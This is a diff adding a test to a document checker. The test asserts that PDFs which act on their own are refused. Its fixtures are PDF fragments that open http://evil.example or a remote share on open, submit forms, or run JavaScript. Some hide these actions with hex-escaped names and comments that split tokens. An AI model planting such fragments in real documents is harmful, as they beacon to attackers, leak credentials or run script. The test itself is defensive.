@@ -89,6 +89,31 @@ test('a document with scripts, programs or hidden files is refused', () => {
     expect(faultOf(checkedFile(pdf(harmless))), harmless).toBeUndefined();
 });
 
+test('a document that sends, opens an address or a share by itself is refused, whatever comments stand between', () => {
+  for (const active of [
+    '4 0 obj\n<</OpenAction<</S/URI/URI(http://evil.example)>>>>\nendobj',
+    '4 0 obj\n<</OpenAction 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(http://evil.example)>>\nendobj',
+    '4 0 obj\n<</OpenAction % see\n 5 0 % below\n R>>\nendobj\n5 0 obj\n<</S % a\n/SubmitForm/F(x)>>\nendobj',
+    '4 0 obj\n<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>>>\nendobj\n6 0 obj\n<</S/GoToR/F(\\\\evil\\share)>>\nendobj',
+    '4 0 obj\n<</AA<</O 7 0 R>>>>\nendobj\n7 0 obj\n<</S/URI/URI(http://evil.example)>>\nendobj',
+    '4 0 obj\n<</Open#41ction<</S/U#52I/URI(http://evil.example)>>>>\nendobj',
+    '4 0 obj\n<</A<</S/SubmitForm/F(http://evil.example)>>>>\nendobj',
+    '% >> stream\n4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj',
+    '% >> stream\n4 0 obj\n<</Names<</JS 5 0 R>>>>\nendobj',
+    '4 0 obj\n<</S %\n/JavaScript %\n/JS %\n(app.alert(1))>>\nendobj',
+    '4 0 obj\n<</Title(100%)/OpenAction<</S/URI/URI(http://evil.example)>>>>\nendobj',
+  ])
+    expect(faultOf(checkedFile(pdf(active))), active).toBe('EVIDENCE_FILE_ACTIVE');
+  for (const harmless of [
+    // A link that somebody has to click, as word processors write it.
+    '4 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://chodon.example)>>>>\nendobj',
+    '4 0 obj\n<</OpenAction[3 0 R/XYZ null null 0]>>\nendobj',
+    '4 0 obj\n<</OpenAction 5 0 R>>\nendobj\n5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj',
+    '4 0 obj\n<</OpenAction[9 0 R/Fit]/X 1>>\nendobj\n9 0 obj\n<</Type/Page/Annots[8 0 R]>>\nendobj\n8 0 obj\n<</A<</S/URI>>>>\nendobj',
+  ])
+    expect(faultOf(checkedFile(pdf(harmless))), harmless).toBeUndefined();
+});
+
 test('whatever is sent, the check ends without an error, and what is kept is kept again as it is', () => {
   const seeds = [jpeg({ before: [...jfif, ...exif(6)] }), png([chunk('tEXt', text('a'))]), pdf()];
   const mutated = fc
